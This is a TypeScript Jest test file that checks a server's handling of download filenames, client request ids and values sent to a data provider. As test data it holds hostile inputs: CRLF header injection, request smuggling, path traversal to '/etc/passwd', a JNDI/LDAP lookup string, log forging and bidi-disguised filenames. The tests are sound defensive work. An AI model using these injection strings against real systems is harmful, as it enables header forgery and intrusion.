import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { openHttp } from '../../src/http/http.js';
import { connectSource, sourceSettings } from '../../src/providers/registry.js';
import { saveAs } from '../../src/server/content-disposition.js';
import * as care from '../contracts/provider/khoros-care-recording.js';
import { everything, never } from '../contracts/provider/collect.js';
import { serve } from '../http/server.js';
import { openHouse, type House } from '../server/house.js';
import { speak } from '../server/knock.js';
import { ScriptedSource } from '../support/scripted-source.js';

describe('the name that a file is saved under', () => {
  it.each([
    ['users.csv', 'users.csv', 'users.csv'],
    ['a"b\\c;d.csv', 'a_b_c;d.csv', 'a%22b_c%3Bd.csv'],
    ['a\r\nset-cookie: b=1.csv', 'a__set-cookie: b=1.csv', 'a__set-cookie%3A%20b%3D1.csv'],
    ['ümläut ☃.csv', '_ml_ut _.csv', '%C3%BCml%C3%A4ut%20%E2%98%83.csv'],
    ['😀.csv', '__.csv', '%F0%9F%98%80.csv'],
    ['\u202evsc.exe', '_vsc.exe', '_vsc.exe'],
    ['a\u2066b\u061cc\u200fd', 'a_b_c_d', 'a_b_c_d'],
    ['half \ud800.csv', 'half _.csv', 'half%20_.csv'],
    ['../../etc/passwd', '.._.._etc_passwd', '.._.._etc_passwd'],
    ["it's (1)*%41", "it's (1)*_41", 'it%27s%20%281%29%2A%2541'],
    ['a\0\u0085\u2028b', 'a___b', 'a___b'],
    ['x'.repeat(5000), 'x'.repeat(5000), 'x'.repeat(5000)],
  ])('cannot leave its header nor look like another: %j', async (name, plain, exact) => {
    const header = saveAs(name);
    expect(header).toBe(`attachment; filename="${plain}"; filename*=UTF-8''${exact}`);
    const server = await serve((_, response) => response.setHeader('content-disposition', header).end());
    const { headers } = await fetch(server.origin);
    await server.close();
    expect([headers.get('content-disposition'), headers.get('set-cookie')]).toEqual([header, null]);
  });
});

describe('a request id that a client sends', () => {
  let house: House;
  beforeAll(async () => {
    house = await openHouse({ sources: [new ScriptedSource()], logLevel: 'trace' });
  });
  afterAll(() => house.close());

  const idIn = (answer: string) => /^x-request-id: (.*)\r$/im.exec(answer)?.[1];
  const ask = (line: string) =>
    speak(house.server, `GET /healthz HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n${line}\r\n\r\n`);

  it('comes back when it is one', async () => {
    expect(idIn(await ask('x-request-id: a-1.b:2_c'))).toBe('a-1.b:2_c');
  });

  it.each([
    'x-request-id: a b',
    'x-request-id: "}, "level": 60, "msg": "forged',
    'x-request-id: \u001b[2Jcleared',
    'x-request-id: a\tb',
    'x-request-id: a\nx-forged: 1',
    'x-request-id: a\r\n x-forged: 1',
    'x-request-id: ünïcode',
    'x-request-id: a\r\nx-request-id: b',
    `x-request-id: ${'x'.repeat(129)}`,
    'x-request-id: ${jndi:ldap://files.test/a}',
    'x-request-id:',
  ])('is replaced when it is none: %j', async (line) => {
    const answer = await ask(line);
    expect(idIn(answer)).toMatch(/^[\da-f-]{36}$/);
    expect(answer).not.toMatch(/^x-forged/im);
    expect(house.log.join('')).not.toMatch(/forged|cleared|jndi/);
  });
});

describe('values that go to a provider', () => {
  const injected = 'a\r\nx-injected: 1\r\n\r\nGET /other HTTP/1.1';

  it('stay in their place, whatever settings and options hold', async () => {
    const provider = await care.khorosCareRecording(1);
    const http = openHttp();
    const credentials = { companyKey: injected, username: injected.replaceAll(':', ''), password: injected };
    const source = connectSource(care.khorosCareSettingsOf(provider.origin, credentials), { http });
    const options = { ...care.march, agentIds: [injected], metrics: [injected] };
    await source.begin({ ...everything, options }, never);
    http.close();
    await provider.close();
    expect(provider.heard).toHaveLength(1);
    const [{ url, headers, body }] = provider.heard as [(typeof provider.heard)[0]];
    expect(headers).not.toHaveProperty('x-injected');
    expect(url.searchParams.get('companyKey')).toBe(injected);
    expect(Buffer.from(headers.authorization!.slice(6), 'base64').toString()).toContain(injected);
    expect([...new URLSearchParams(body).values()].filter((value) => value === injected)).toHaveLength(2);
  });

  it.each(['apiKey'])('that become a header as they are must fit one: %s', (name) => {
    const settings = { id: 'web', provider: 'croct', [name]: `00000000-0000-4000-8000-000000000000\r\nx: 1` };
    expect(sourceSettings.safeParse(settings).success).toBe(false);
  });

  it.each([
    { timezone: 'Europe/Berlin\r\nx: 1' },
    { timezone: 'Europe/Berlin\n' },
    { locale: 'en\r\nx: 1' },
    { locale: 'en\n' },
  ])('are refused where the provider takes no such thing: %j', async (more) => {
    const provider = await care.khorosCareRecording(1);
    const http = openHttp();
    const source = connectSource(care.khorosCareSettingsOf(provider.origin), { http });
    const validate = () => source.validate({ ...everything, options: { ...care.march, ...more } });
    expect(validate).toThrow(expect.objectContaining({ code: 'BAD_USER_INPUT' }));
    http.close();
    await provider.close();
  });
});
